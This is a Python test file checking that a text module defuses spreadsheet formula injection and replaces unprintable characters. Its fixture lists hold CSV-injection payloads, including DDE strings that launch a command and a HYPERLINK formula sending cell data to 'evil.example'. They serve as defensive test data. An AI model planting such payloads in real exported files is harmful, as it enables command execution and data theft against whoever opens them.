"""What spreadsheets would calculate, and what files cannot hold."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.render.text import is_formula, plain_text, printable, safe_text

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    ";=1+1",
    '"=1+1',
    '";=1+1',
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\tplain",
    "\rplain",
    "'=1+1",
]
INNER = [
    "a;=1+1",
    "a\n=1+1",
    "a\t@SUM(1)",
    'a";=1+1',
    "a;+1+cmd|'/C calc'!A0",
    "a\r\n-cmd|' /C calc'!A0",
    "a;＝1",
]
HARMLESS = [
    "",
    "a=b",
    "anna@example.com",
    "A - B",
    "10-20",
    "list:\n- one\n- two",
    "'tis",
    "O'Neill",
    "1;2",
    "x, -y",
]

texts = st.text(st.characters(codec=None), max_size=30) | st.text(
    st.sampled_from("'=+-@ \t\r\n;,|\"aＡ＝＋1\u200b"), max_size=12
)


class TestFormulas:
    @pytest.mark.parametrize("text", FORMULAS)
    def test_begin_with_an_apostrophe_afterwards(self, text: str) -> None:
        assert safe_text(text).startswith("'")
        assert is_formula(text)

    @pytest.mark.parametrize("text", INNER)
    def test_are_found_where_another_program_would_start_a_cell(self, text: str) -> None:
        safe = safe_text(text)

        assert safe != text
        assert safe.replace("'", "", 1) == text or safe.count("'") == text.count("'") + 1

    @pytest.mark.parametrize("text", HARMLESS)
    def test_are_not_seen_in_what_people_write(self, text: str) -> None:
        assert safe_text(text) == text

    @given(texts)
    def test_come_back_as_they_were(self, text: str) -> None:
        assert plain_text(safe_text(text)) == text

    @given(texts)
    def test_are_never_left_at_the_start_of_a_cell(self, text: str) -> None:
        assert safe_text(text)[:1] not in {"=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"}


class TestPrintable:
    def test_replaces_what_no_page_can_hold(self) -> None:
        assert printable("a\x00b\x1bc\ud800d\x85e") == "a\ufffdb\ufffdc\ufffdd\ufffde"

    def test_leaves_tabs_line_ends_and_every_script(self) -> None:
        text = "a\tb\r\nc 北京 שלום 🚀 👩‍👩‍👧"

        assert printable(text) == text
